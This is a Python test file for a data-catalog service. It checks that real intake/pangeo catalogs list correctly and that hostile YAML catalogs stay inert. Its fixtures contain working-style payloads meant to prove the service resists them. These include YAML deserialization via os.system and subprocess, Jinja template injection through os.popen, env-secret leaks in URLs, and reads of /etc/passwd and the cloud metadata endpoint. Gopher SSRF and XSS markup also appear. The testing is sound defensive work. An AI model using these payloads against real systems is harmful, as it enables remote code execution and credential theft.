"""Real public catalogs, and hostile ones: all of it is listed, nothing of it runs."""

import sys
from pathlib import Path
from typing import Any

import msgspec
import pytest
from catalogs_support import Harness, serving

SHARED = Path(__file__).parents[3] / "shared" / "catalogs"
needs_shared = [
    pytest.mark.shared,
    pytest.mark.skipif(not SHARED.is_dir(), reason="the real catalogs (../shared/catalogs) are not here"),
]
CANARY = "canary-that-must-not-be-shown"

HOSTILE = {
    "cls.yaml": 'sources: {pwn: {cls: subprocess.check_output, args: [[sh, -c, "touch $MARKERS/cls"]]}}',
    "module.yaml": "plugins: {source: [{module: evilmod}, {dir: .}]}\nsources: {}",
    "driver.yaml": "sources: {x: {driver: evilmod.Klass, args: {}}, [evilmod.Other]: {driver: [evilmod.Other]}}",
    "jinja.yaml": """
sources:
  x: {driver: csv, args: {urlpath: "{{ cycler.__init__.__globals__.os.popen('touch $MARKERS/jinja').read() }}"}}
  leak: {driver: csv, args: {urlpath: "http://h/?k={{ env(SECRET) }}"}}
  leak2: {driver: csv, args: {urlpath: "http://h/?k={{ p }}"}, parameters: {p: {type: str, default: "env(SECRET)"}}}
  sh: {driver: csv, args: {urlpath: "/{{ shell('touch $MARKERS/shell') }}"}}
""",
    "tag.yaml": """
sources:
  x: {driver: csv, args: {urlpath: !!python/object/apply:os.system ["touch $MARKERS/tag"]}}
  y: {driver: csv, args: {urlpath: !!python/name:os.system ""}}
  z: !!python/object/new:evilmod.Thing {}
""",
    "shell.yaml": "sources: {s: {driver: yaml_file_cat, args: {path: '{{CATALOG_DIR}}/jinja.yaml', getshell: true}}}",
    "files.yaml": """
sources:
  passwd: {driver: yaml_file_cat, args: {path: /etc/passwd}}
  zero: {driver: yaml_file_cat, args: {path: /dev/zero}}
  metadata: {driver: yaml_file_cat, args: {path: "http://169.254.169.254/latest/meta-data"}}
  inner: {driver: yaml_file_cat, args: {path: "http://127.0.0.1:1/c.yaml"}}
  other: {driver: yaml_file_cat, args: {path: "gopher://h/c.yaml"}}
""",
    "markup.yaml": """
sources:
  "<img src=x onerror=alert(1)>":
    driver: "<script>alert(1)</script>"
    description: "<a data-commandlinker-command='x:y' id=jupyter-config-data>"
    metadata: {title: "<b>bold</b>", url: "javascript:alert(1)", license: "<i>x</i>"}
""",
}


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Hostile catalogs beside a module that tells when it is imported."""
    for name, text in HOSTILE.items():
        (tmp_path / name).write_text(text)
    markers = tmp_path / "markers"
    markers.mkdir()
    (tmp_path / "evilmod.py").write_text(f"import pathlib; pathlib.Path({str(markers)!r}, 'imported').touch()\n")
    monkeypatch.setenv("MARKERS", str(markers))
    monkeypatch.setenv("PANGEO_TEST_MARKERS", str(markers))
    monkeypatch.setenv("SECRET", CANARY)
    monkeypatch.setenv("PANGEO_TEST_SECRET", CANARY)
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    return tmp_path


async def everything(harness: Harness, location: Path) -> tuple[dict[str, Any], str]:
    """Entries by name, and all that is ever said of a catalog as one text."""
    added = await harness.add(location)
    entries = await harness.walk(added.id)
    details = [await harness.service.entry(added.id, entry.id) for entry in entries]
    found = await harness.service.search("", None, None, None, 1000)
    said = msgspec.json.encode([harness.service.list(), entries, details, found]).decode()
    return {entry.name: entry for entry in entries}, said


@pytest.mark.parametrize("name", sorted(HOSTILE))
async def test_a_hostile_catalog_is_inert_text(hostile: Path, name: str) -> None:
    async with serving(hostile) as harness:
        entries, said = await everything(harness, hostile / name)
        assert harness.service.list().items[0].state == "ready"
    assert CANARY not in said
    assert "root:" not in said
    assert list((hostile / "markers").iterdir()) == []
    assert "evilmod" not in sys.modules
    for entry in entries.values():
        assert entry.problems, f"{entry.name} has no badge"


async def test_hostile_text_is_shown_as_it_is(hostile: Path) -> None:
    async with serving(hostile) as harness:
        entries, _ = await everything(harness, hostile / "markup.yaml")
        (entry,) = entries.values()
        assert entry.name == "<img src=x onerror=alert(1)>"
        assert entry.driver == "<script>alert(1)</script>"
        details = await harness.service.entry(harness.service.list().items[0].id, entry.id)
        assert "data-commandlinker-command" in details.description
        assert details.links == []


@pytest.mark.parametrize("name", [pytest.param(chr(97 + n), marks=needs_shared) for n in range(9)])
async def test_the_collected_hostile_catalogs_are_inert(hostile: Path, name: str) -> None:
    (path,) = (SHARED / "malicious").glob(f"{name}_*.yaml")
    async with serving(hostile) as harness:
        entries, said = await everything(harness, path)
        listed = harness.service.list().items[0]
    assert listed.problems or all(entry.problems for entry in entries.values())
    assert CANARY not in said
    assert list((hostile / "markers").iterdir()) == []
    if name == "e":
        problem = entries["x"].problems[0]
        assert "python/object/apply:os.system" in problem.message
        assert "Line 2" in problem.message


@pytest.mark.shared
@pytest.mark.skipif(not SHARED.is_dir(), reason="the real catalogs (../shared/catalogs) are not here")
async def test_the_whole_pangeo_datastore_lists_with_its_problems(tmp_path: Path) -> None:
    count = 69
    async with serving(tmp_path) as harness:
        added = await harness.add(SHARED / "pangeo-datastore/intake-catalogs/master.yaml")
        entries = await harness.walk(added.id)
        assert len(entries) == count
        nested = {entry.name: entry for entry in entries if entry.has_children}
        missing = {name for name, entry in nested.items() if entry.child_state == "failed"}
        assert len(nested) == 11
        assert missing == {"climate", "GFDL_CM2_6", "CESM_POP", "MEOM_NEMO", "camels"}
        for name in missing:
            assert "not-found" in [problem.code for problem in nested[name].problems]
        assert {entry.format for entry in entries} == {"yaml_file_cat", "zarr", "rasterio", "parquet"}
        assert harness.service.get(added.id).entry_count == count
        for entry in entries:
            details = await harness.service.entry(added.id, entry.id)
            assert details.recipe is not None
            assert len(details.recipe.urls) == 1
            assert "CATALOG_DIR" not in details.recipe.urls[0]
            assert entry.name in details.source
        page = await harness.service.search("altimetry", None, "zarr", None, 100)
        assert page.total >= 21


@pytest.mark.parametrize(
    ("path", "count", "bad"),
    [
        pytest.param(path, count, bad, marks=needs_shared, id=path)
        for path, count, bad in [
            ("intake/intake/catalog/tests/catalog1.yml", 9, {"nested": "cycle"}),
            ("intake/intake/catalog/tests/catalog_alias.yml", 9, {}),
            ("intake/intake/catalog/tests/catalog_hierarchy.yml", 4, {"a.c": "duplicate-key"}),
            ("intake/intake/source/tests/alias.yaml", 4, {}),
            ("intake/intake/tests/catalog_nested.yml", 1, {"nested": "not-found"}),
            ("intake/intake/tests/catalog_nested_sub.yml", 2, {}),
            ("intake-xarray/intake_xarray/tests/data/catalog.yaml", 12, {"blank": "unknown-key"}),
        ]
    ],
)
async def test_intakes_own_test_catalogs_list(tmp_path: Path, path: str, count: int, bad: dict[str, str]) -> None:
    async with serving(tmp_path) as harness:
        added = await harness.add(SHARED / path)
        entries = await harness.walk(added.id)
        assert (harness.service.get(added.id).state, len(entries)) == ("ready", count)
        problems = {entry.name: [problem.code for problem in entry.problems] for entry in entries}
        for name, code in bad.items():
            assert code in problems[name]
        errors = {entry.name for entry in entries for problem in entry.problems if problem.severity == "error"}
        assert errors == {name for name, code in bad.items() if code in ("cycle", "not-found")}
